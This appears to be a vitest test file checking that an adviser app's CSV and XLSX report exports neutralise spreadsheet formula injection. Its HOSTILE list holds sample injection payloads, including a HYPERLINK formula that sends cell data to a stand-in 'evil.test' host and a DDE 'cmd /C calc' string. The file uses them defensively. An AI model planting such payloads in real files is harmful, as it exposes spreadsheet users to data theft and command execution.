import {
  csvField,
  defaultInvestmentComparisonInputs,
  rateTableToCsv,
  undoFormulaGuard,
} from "@adviser-desk/contracts";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import PizZip from "pizzip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseRateTableFile } from "#server/features/rate-tables/parse-rate-table-file";
import type { HttpClient } from "../../../test/support/http-client";
import { addClient, addRecord, KINDS, subscribedAdviser } from "../../../test/support/record-steps";
import { readWorkbook } from "../../../test/support/report-readers";
import { createTestApp, type TestApp } from "../../../test/support/test-app";

// OWASP CSV injection (security review §7): text starting with = + - @ tab or CR runs as a formula.
const DANGEROUS = /^[=+\-@\t\r]/;
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
];
const kind = (k: string) => {
  const found = KINDS.find((c) => c.kind === k);
  if (!found) throw new Error(k);
  return found;
};

describe("the shared cell writer", () => {
  it("never writes a CSV field a spreadsheet would run, and reads back to the same text", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "grapheme-ascii" }),
        fc.constantFrom("", "=", "+", "-", "@", "\t", "\r"),
        (rest, lead) => {
          const text = lead + rest;
          const rows = parse(`${csvField(text)}\r\n`, { relax_column_count: true }) as string[][];
          const field = rows[0]?.[0];
          expect(field ?? "").not.toMatch(DANGEROUS);
          expect(undoFormulaGuard(field ?? "")).toBe(text);
        },
      ),
    );
  }, 20_000);

  it("writes numbers as numbers, negative ones included", () => {
    expect(csvField(-1234.5)).toBe("-1234.5");
  });

  it("keeps the rate-table CSV round trip for formula-like text and negative numbers", () => {
    const table = { note: "=1+1", label: "-not a number", bands: [{ from: -5, rate: 0.18 }] };
    const csv = rateTableToCsv(table);
    for (const row of parse(csv) as string[][])
      expect(row[1] ?? "").not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
    expect(parseRateTableFile("csv", csv).table).toEqual(table);
  });
});

describe("report exports neutralise formulas", () => {
  let t: TestApp;
  let a: HttpClient;
  let scenarioIds: string[];
  let investmentId: string;

  beforeAll(async () => {
    t = await createTestApp();
    a = (await subscribedAdviser(t, "Formula Tester")).client;
    const clientId = (await addClient(a)).id;
    scenarioIds = [];
    for (const name of HOSTILE.slice(0, 2)) {
      scenarioIds.push((await addRecord(a, kind("scenario"), clientId, name)).id);
    }
    const inputs = defaultInvestmentComparisonInputs({ inflation: 0.05, investment: 0.08 });
    inputs.options = inputs.options.map((o, i) => ({ ...o, label: HOSTILE[i + 2] ?? o.label }));
    investmentId = (await addRecord(a, kind("investment-comparison"), clientId, "=1+1", { inputs }))
      .id;
  });
  afterAll(async () => t.close());

  const csvCells = async (url: string) => {
    const res = await a.get(url);
    expect(res.status).toBe(200);
    return (parse(res.body, { relax_column_count: true }) as string[][]).flat();
  };

  it("compare.csv: scenario names are written as text", async () => {
    const cells = await csvCells(`/api/v1/scenarios/compare.csv?ids=${scenarioIds.join(",")}`);
    // Rebates are a negative amount: a cell that is wholly a number is data, not a formula.
    expect(cells.filter((c) => DANGEROUS.test(c) && Number.isNaN(Number(c)))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
  });

  it("investment CSV: option labels are written as text", async () => {
    const cells = await csvCells(`/api/v1/investment-comparisons/${investmentId}/report.csv`);
    expect(cells.filter((c) => DANGEROUS.test(c) && Number.isNaN(Number(c)))).toEqual([]);
    // The year × option grid heads each option's columns "<label>: <measure>" (ADR 023).
    expect(cells).toContain(`'${HOSTILE[2]}: in today's money`);
  });

  it("XLSX: no formulas, and formula-like text is a string cell in the Text format", async () => {
    for (const url of [
      `/api/v1/scenarios/compare.xlsx?ids=${scenarioIds.join(",")}`,
      `/api/v1/investment-comparisons/${investmentId}/report.xlsx`,
    ]) {
      const res = await a.get(url);
      expect(res.status).toBe(200);
      const zip = new PizZip(res.raw);
      for (const name of Object.keys(zip.files).filter((n) =>
        /^xl\/worksheets\/sheet\d+\.xml$/.test(n),
      )) {
        expect(zip.file(name)?.asText()).not.toMatch(/<f[ >]/);
      }
      let hostile = 0;
      (await readWorkbook(res.raw)).eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === "string" && DANGEROUS.test(cell.value)) {
              hostile++;
              expect(cell.numFmt).toBe("@");
            }
          }),
        ),
      );
      expect(hostile).toBeGreaterThan(0);
    }
  });
});
